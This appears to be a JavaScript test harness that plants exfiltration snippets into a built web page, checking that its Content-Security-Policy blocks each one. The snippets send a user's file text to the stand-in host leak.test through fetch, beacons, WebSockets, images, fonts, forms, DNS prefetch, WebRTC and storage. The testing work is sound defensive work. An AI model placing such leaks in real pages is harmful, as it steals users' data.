// Leaks, each as a few lines that a mistake or a hostile hand could bring into the page's own program: they run under the page's policy, which
// knows their hash, with a text of the user's file in `secret`. `port` is where this machine hears datagrams.
import { createHash } from 'node:crypto';

/**
 * What is planted; `sign` is in what the harness says of it. Nothing else in the same visit says so: the text goes with it, or it is `only` one.
 * @type {Record<string, {code: string, sign: RegExp, only?: boolean}>}
 */
export const PLANTS = {
  // By a request: the policy refuses.
  fetch: { code: 'await fetch(`http://leak.test/?${secret}`).catch(() => {})', sign: /policy: connect-src/ },
  xhr: { code: 'const x = new XMLHttpRequest(); x.open("GET", `http://leak.test/?${secret}`); x.send()', sign: /policy: connect-src/ },
  own_host: { code: 'await fetch(`?${secret}`).catch(() => {})', sign: /policy: connect-src/ },
  beacon: { code: 'navigator.sendBeacon(`http://leak.test/?${secret}`, secret)', sign: /policy: connect-src/ },
  socket: { code: 'new WebSocket(`ws://leak.test/?${secret}`)', sign: /policy: connect-src/ },
  events: { code: 'new EventSource(`http://leak.test/?${secret}`)', sign: /policy: connect-src/ },
  ping: { code: 'const a = document.createElement("a"); a.href = "#x"; a.ping = `http://leak.test/?${secret}`; document.body.append(a); a.click()', sign: /policy: connect-src/ },
  worker: { code: 'new Worker(URL.createObjectURL(new Blob([`setTimeout(() => fetch("http://leak.test/?${secret}").catch(() => {}), 300)`])))', sign: /policy, in a worker: connect-src/ },
  image: { code: 'new Image().src = `http://leak.test/?${secret}`', sign: /policy: img-src/ },
  style: { code: 'const l = document.createElement("link"); l.rel = "stylesheet"; l.href = `http://leak.test/?${secret}`; document.head.append(l)', sign: /policy: style-src/ },
  background: { code: 'const s = new CSSStyleSheet(); s.replaceSync(`body { background: url(http://leak.test/?${secret}) }`); document.adoptedStyleSheets = [s]', sign: /policy: img-src/ },
  font: { code: 'new FontFace("x", `url(http://leak.test/?${secret})`).load().catch(() => {})', sign: /policy: font-src/ },
  film: { code: 'const v = document.createElement("video"); v.src = `http://leak.test/?${secret}`; document.body.append(v)', sign: /policy: media-src/ },
  script: { code: 'const s = document.createElement("script"); s.src = `http://leak.test/?${secret}`; document.head.append(s)', sign: /policy: script-src/ },
  frame: { code: 'const f = document.createElement("iframe"); f.src = `http://leak.test/?${secret}`; document.body.append(f)', sign: /policy: frame-src/, only: true },
  plugin: { code: 'const o = document.createElement("object"); o.data = `http://leak.test/?${secret}`; document.body.append(o)', sign: /policy: object-src/, only: true },
  form: { code: 'const f = document.createElement("form"); f.action = `http://leak.test/?${secret}`; f.method = "post"; f.append(Object.assign(document.createElement("input"), { name: "x", value: secret })); document.body.append(f); f.submit()', sign: /policy: form-action/, only: true },
  prefetch: { code: 'const l = document.createElement("link"); l.rel = "prefetch"; l.href = `http://leak.test/?${secret}`; document.head.append(l)', sign: /policy: / },
  speculation: { code: 'const s = document.createElement("script"); s.type = "speculationrules"; s.textContent = JSON.stringify({ prefetch: [{ urls: [`/some/where/?${secret}`] }] }); document.head.append(s)', sign: /policy: script-src-elem inline/, only: true },
  message: { code: 'window.postMessage(secret, "*")', sign: /message: / },
  console: { code: 'console.info(secret)', sign: /console, with the secret/ },
  clipboard: { code: 'navigator.clipboard.writeText(secret).catch(() => {})', sign: /clipboard: /, only: true },
  // Kept for later.
  local: { code: 'localStorage.x = secret', sign: /stored: local/ },
  session: { code: 'sessionStorage.x = secret', sign: /stored: session/ },
  database: { code: 'await new Promise((done) => { const r = indexedDB.open("x"); r.onupgradeneeded = () => r.result.createObjectStore("s").put(secret, 1); r.onsuccess = () => { r.result.close(); done(); }; })', sign: /stored: databases/ },
  caches: { code: 'await (await caches.open("x")).put("/x", new Response(secret))', sign: /stored: caches/ },
  cookie: { code: 'document.cookie = `x=${secret}; max-age=1000`', sign: /stored: cookie/ },
  file: { code: 'const w = await (await (await navigator.storage.getDirectory()).getFileHandle("x", { create: true })).createWritable(); await w.write(secret); await w.close()', sign: /stored: files/ },
  title: { code: 'document.title = secret', sign: /stored: title/ },
  address: { code: 'history.pushState(null, "", `?${secret}`)', sign: /stored: search/ },
  state: { code: 'history.replaceState({ secret }, "")', sign: /stored: state/ },
  name: { code: 'window.name = secret', sign: /stored: name/ },
};

/**
 * Leaks that leave the page, or that the policy cannot forbid and are seen from outside: each has a browser of its own. `sign` is in what the harness
 * or the recorder says.
 * @type {Record<string, {code: string, sign: RegExp, proxy?: boolean}>}
 */
export const OUTSIDE = {
  preconnect: { code: 'const l = document.createElement("link"); l.rel = "preconnect"; l.href = `http://${secret}.leak.test/`; document.head.append(l)', sign: /leak\.test/, proxy: false },
  look_up: { code: 'const l = document.createElement("link"); l.rel = "dns-prefetch"; l.href = `http://${secret}.leak.test/`; document.head.append(l)', sign: /leak\.test/, proxy: false },
  navigation: { code: 'location.href = `http://leak.test/?${secret}`', sign: /request after load: http:\/\/leak\.test/ },
  window: { code: 'window.open(`http://leak.test/?${secret}`)', sign: /leak\.test/ },
  refresh: { code: 'const m = document.createElement("meta"); m.httpEquiv = "refresh"; m.content = `0; url=http://leak.test/?${secret}`; document.head.append(m)', sign: /leak\.test/ },
  webrtc: { code: 'const c = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] }); c.createDataChannel("x"); await c.setLocalDescription(await c.createOffer())', sign: /datagram/ },
};

/** A page of dist/ with leaks in it, each of which waits for the event `leak` with its name. @param {string} html @param {Record<string, {code: string}>} leaks */
export function planted(html, leaks) {
  const functions = Object.entries(leaks).map(([name, { code }]) => `${name}: async (secret, port) => { ${code}; }`);
  const script = `{ const leaks = { ${functions.join(', ')} }; addEventListener('leak', ({ detail: { name, secret, port } }) => leaks[name](secret, port)); }`;
  const hash = createHash('sha256').update(script).digest('base64');
  const changed = html.replace('script-src ', () => `script-src 'sha256-${hash}' `).replace('<script', () => `<script>${script}</script><script`);
  if (!changed.includes(script) || !changed.includes(hash)) throw new Error('nothing could be planted');
  return changed;
}
